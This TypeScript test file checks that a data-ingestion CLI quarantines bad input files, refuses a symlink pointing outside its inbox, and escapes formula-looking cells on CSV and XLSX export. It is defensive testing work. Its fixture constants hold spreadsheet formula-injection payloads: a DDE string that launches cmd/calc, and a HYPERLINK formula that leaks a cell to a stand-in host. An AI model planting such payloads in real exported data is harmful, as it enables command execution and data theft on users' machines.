import { mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { runCli } from "../helpers/cli.ts";
import { withWarehouse } from "../helpers/duckdb.ts";
import { caseSpec, longLayout, WIDE_HEADER } from "./corpus/case.ts";
import { toCsv, toNdjson, toXlsx } from "./corpus/render.ts";
import { LONG, WIDE } from "./corpus/text-cases.ts";
import { unzip } from "./corpus/zip.ts";

const INJECTION = "=cmd|' /C calc'!A0";
/** A file name a spreadsheet would evaluate, since source_uri is exported too (a name cannot hold the slash of /C). */
const FILE_NAME = "=cmd|'calc'!A0.csv";
const HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")';

/** A data folder and feed specs as a department's deployment would have them, with bad files waiting in the drop folders. */
async function workspace() {
  const root = mkdtempSync(join(tmpdir(), "gongfu-corpus-cli-"));
  const feeds = join(root, "feeds");
  const data = join(root, "data");
  mkdirSync(feeds);
  const specs = [
    caseSpec("cli-csv", { kind: "csv" }, { connector: { kind: "file-drop", path: "csv" } }),
    caseSpec("cli-xlsx", { kind: "xlsx" }, { connector: { kind: "file-drop", path: "xlsx" } }),
    caseSpec("cli-ndjson", { kind: "ndjson" }, { connector: { kind: "file-drop", path: "ndjson" } }),
    caseSpec("cli-long", { kind: "csv" }, { ...longLayout(), connector: { kind: "file-drop", path: "long" } }),
  ];
  for (const s of specs) writeFileSync(join(feeds, `${s.id}.yaml`), JSON.stringify(s, null, 2)); // YAML is a superset of JSON
  const drop = (folder: string, name: string, bytes: string | Buffer) => {
    mkdirSync(join(data, "inbox", folder), { recursive: true });
    writeFileSync(join(data, "inbox", folder, name), bytes);
  };
  drop(
    "csv",
    FILE_NAME,
    toCsv(WIDE_HEADER, [
      ...WIDE,
      { 地区: INJECTION, 年份: "2023", 居民人均可支配收入: HYPERLINK, 城镇化率: "1", 常住人口: "1" },
    ]),
  );
  drop(
    "xlsx",
    "book.xlsx",
    await toXlsx(WIDE_HEADER, [
      ...WIDE,
      { 地区: HYPERLINK, 年份: "2023", 居民人均可支配收入: "1", 城镇化率: "1", 常住人口: "1" },
    ]),
  );
  drop("ndjson", "cut.ndjson", toNdjson(LONG).slice(0, -25));
  drop(
    "long",
    "long.csv",
    toCsv(
      ["region", "period", "indicator", "value", "unit"],
      [...LONG, { region: "杭州市", period: "2024-13", indicator: "+1+cmd|' /C calc'!A0", value: "-2+3", unit: "%" }],
    ),
  );
  mkdirSync(join(root, "outside"));
  writeFileSync(join(root, "outside", "secret.csv"), toCsv(WIDE_HEADER, WIDE));
  symlinkSync(join(root, "outside", "secret.csv"), join(data, "inbox", "csv", "link.csv"));
  return { root, data, feeds };
}

describe("bad input through the real CLI", { timeout: 240_000 }, () => {
  it("gongfu run loads the good rows, quarantines the bad ones with their place, and exports keep formula-looking text inert", async () => {
    const ws = await workspace();
    const run = await runCli(["run", "--data", ws.data, "--feeds", ws.feeds]);
    expect(run.stderr).not.toMatch(/TypeError|RangeError|unhandled/i);
    // The link is refused whole, which fails the command (README, "Schedule it"); everything else still loads.
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(/1 source\(s\) refused whole \(corpus-cli-csv: 1\)/);

    const warehouse = join(ws.data, "gongfu.duckdb");
    const { facts, letters } = await withWarehouse(warehouse, async (q) => ({
      facts: await q(
        "SELECT source_feed AS feed, count(DISTINCT source_uri || source_position)::INTEGER AS n " +
          "FROM fact_observation GROUP BY 1 ORDER BY 1",
      ),
      letters: await q(
        "SELECT feed, source_uri AS uri, source_position AS pos, reason_codes AS codes FROM quarantine ORDER BY feed, uri, pos",
      ),
    }));
    // wide rows load three cells each; the long and NDJSON feeds one per record
    expect(facts).toEqual([
      { feed: "corpus-cli-csv", n: 12 },
      { feed: "corpus-cli-long", n: 4 },
      { feed: "corpus-cli-ndjson", n: 3 },
      { feed: "corpus-cli-xlsx", n: 12 },
    ]);
    expect(letters).toEqual([
      { feed: "corpus-cli-csv", uri: FILE_NAME, pos: "line 6", codes: "unknown_region" },
      { feed: "corpus-cli-csv", uri: "link.csv", pos: "whole source", codes: "refused_file" },
      { feed: "corpus-cli-long", uri: "long.csv", pos: "line 6", codes: "bad_period" },
      { feed: "corpus-cli-ndjson", uri: "cut.ndjson", pos: "line 4", codes: "bad_json" },
      { feed: "corpus-cli-xlsx", uri: "book.xlsx", pos: "sheet 2024 row 6", codes: "unknown_region" },
    ]);

    const query =
      "SELECT source_uri, payload->>'$.fields.地区' AS region, payload->>'$.fields.居民人均可支配收入' AS " +
      "income, '-12.5' AS negative FROM quarantine WHERE feed IN ('corpus-cli-csv', " +
      "'corpus-cli-xlsx') AND stage = 'transform' ORDER BY 1";
    const csvOut = join(ws.root, "q.csv");
    const csv = await runCli(["export", "--data", ws.data, "--query", query, "--out", csvOut]);
    expect(csv.code, csv.stderr).toBe(0);
    const lines = readFileSync(csvOut, "utf8").trim().split("\n").slice(1);
    // every cell a spreadsheet would evaluate starts with an apostrophe; a plain negative number is left alone
    expect(lines.some((l) => l.includes(`'${INJECTION}`))).toBe(true);
    expect(lines.some((l) => l.startsWith(`"'${FILE_NAME}"`) || l.startsWith(`'${FILE_NAME}`))).toBe(true);
    expect(lines.every((l) => l.split(",").every((cell) => !/^"?[=@+]/.test(cell)))).toBe(true);
    expect(lines.every((l) => l.endsWith(",-12.5"))).toBe(true);

    const xlsxOut = join(ws.root, "q.xlsx");
    const xlsx = await runCli(["export", "--data", ws.data, "--query", query, "--out", xlsxOut]);
    expect(xlsx.code, xlsx.stderr).toBe(0);
    const sheet = unzip(readFileSync(xlsxOut)).get("xl/worksheets/sheet1.xml")!.toString("utf8");
    expect(sheet).toContain("=cmd|");
    expect(sheet).toContain("HYPERLINK");
    expect(sheet).not.toMatch(/<f[ >]/); // text cells, never formulas
  });
});
